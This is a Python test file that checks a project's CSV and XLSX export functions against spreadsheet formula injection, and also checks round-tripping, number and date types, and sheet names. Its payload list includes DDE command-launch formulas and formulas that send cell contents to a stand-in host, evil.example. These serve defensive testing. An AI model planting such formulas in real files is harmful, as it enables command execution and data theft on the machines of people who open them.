"""Exports: nothing that somebody typed runs in a spreadsheet program."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from erm.core.tables import Column, Kind, Table, guarded, to_csv, to_xlsx, unguarded

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
    '=1+1";=1+1',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "a;=1+1",
    "a\n=1+1",
)
STARTS = tuple("=+-@＝＋－＠")


def _cells(text: str, delimiter: str) -> list[str]:
    return [
        c for row in csv.reader(text.splitlines(keepends=True), delimiter=delimiter) for c in row
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_file_begins_a_formula(payload: str, delimiter: str) -> None:
    """Whichever sign a program splits the lines at."""
    table = Table("x", [Column("Name"), Column(payload)], [["before", payload], [payload, "after"]])
    cells = _cells(to_csv(table).decode("utf-8-sig"), delimiter)
    bare = [cell.strip('" \t\r\n\x01\u00a0\ufeff') for cell in cells]
    assert [cell for cell in bare if cell.startswith(STARTS)] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_holds_text_as_text(payload: str) -> None:
    """Texts as they are, and no cell is a formula or a link."""
    table = Table("x", [Column("Name")], [[payload]])
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(table)))
    (cell,) = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert cell.data_type == "s"
    assert cell.hyperlink is None


@given(st.text(alphabet=st.sampled_from("=+-@'; \t\r\n\"aя＝")))
def test_what_was_guarded_comes_back_as_it_was(text: str) -> None:
    """So that an export can be imported."""
    assert unguarded(guarded(text)) == text


@given(st.text())
def test_plain_text_of_any_kind_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_numbers_and_days_are_numbers_and_days() -> None:
    """A negative number is no formula."""
    columns = [
        Column("Name"),
        Column("Gap", Kind.NUMBER),
        Column("Share", Kind.SHARE),
        Column("Day", Kind.DAY),
    ]
    table = Table(
        "Gaps", columns, [["Ann", -0.5, 0.25, date(2026, 11, 22)], ["Bo", None, None, None]]
    )
    assert to_csv(table).decode("utf-8-sig") == (
        '"Name","Gap","Share","Day"\r\n"Ann","-0.5","0.25","2026-11-22"\r\n"Bo","","",""\r\n'
    )
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table)))["Gaps"]
    assert [cell.value for cell in sheet[2]][:3] == ["Ann", -0.5, 0.25]
    assert sheet["D2"].value.date() == date(2026, 11, 22)
    assert [cell.value for cell in sheet[3]] == ["Bo", None, None, None]


def test_csv_begins_with_a_byte_order_mark_and_keeps_every_letter() -> None:
    """So that programs do not guess the encoding."""
    content = to_csv(Table("x", [Column("Имя")], [["Ёлка, «ель»\nи ещё"]]))
    assert content.startswith(b"\xef\xbb\xbf")
    assert _cells(content.decode("utf-8-sig"), ",") == ["Имя", "Ёлка, «ель»\nи ещё"]


def test_sheets_have_names_that_a_workbook_takes() -> None:
    """Long ones, forbidden signs and twins."""
    tables = [Table(name, [Column("a")], []) for name in ("a/b*c" * 20, "a/b*c" * 20, "", "[x]")]
    names = openpyxl.load_workbook(io.BytesIO(to_xlsx(*tables))).sheetnames
    assert len({name.casefold() for name in names}) == 4
    assert all(0 < len(name) <= 31 for name in names)
